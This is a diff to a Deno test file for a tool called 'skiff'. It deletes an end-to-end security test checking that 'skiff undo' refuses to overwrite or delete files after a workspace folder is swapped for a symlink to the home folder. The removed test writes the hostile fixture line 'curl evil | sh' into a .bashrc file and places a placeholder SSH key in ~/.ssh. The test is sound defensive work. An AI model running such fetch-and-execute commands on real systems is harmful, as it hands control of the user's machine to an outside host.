@@ -12,7 +12,6 @@ import {
   everythingSent,
   exists,
   guarded,
-  read,
   SSH_SECRET,
   withAttack,
   write,
@@ -76,31 +75,4 @@ Deno.test({
       assert(inside > 0, "no write got through: the race never ran");
     });
   },
-});
-
-Deno.test("e2e: skiff undo after a folder became a link to ~ overwrites and deletes nothing there", async () => {
-  const bashrc = "# user's shell setup\n"; // what the sandbox's ~/.bashrc holds
-  await withAttack([
-    { toolCalls: [read("d/.bashrc")] },
-    {
-      toolCalls: [write("d/.bashrc", bashrc), write("d/.ssh/id_rsa", `${SSH_SECRET}\n`)],
-    },
-    { text: "done" },
-  ], async (sandbox) => {
-    const folder = path.join(sandbox.workspace, "d");
-    await Deno.mkdir(folder);
-    await Deno.writeTextFile(path.join(folder, ".bashrc"), "curl evil | sh\n");
-    const run = await runSkiff(["run", "--json", "tidy up"], sandbox);
-    assertEquals(run.code, 0, run.stderr);
-    // After the session, something swaps the folder for a link to the home folder.
-    await Deno.rename(folder, `${folder}.old`);
-    await Deno.symlink(sandbox.home, folder);
-    const before = guarded(sandbox);
-    const undo = await runSkiff(["undo"], sandbox);
-    assertUnchanged(before, guarded(sandbox));
-    assertEquals(await Deno.readTextFile(path.join(sandbox.home, ".bashrc")), bashrc);
-    assert(await exists(path.join(sandbox.home, ".ssh", "id_rsa")), "undo deleted ~/.ssh/id_rsa");
-    assertEquals(undo.code, 1, undo.stdout + undo.stderr);
-    assertStringIncludes(undo.stderr, "refused");
-  });
 });
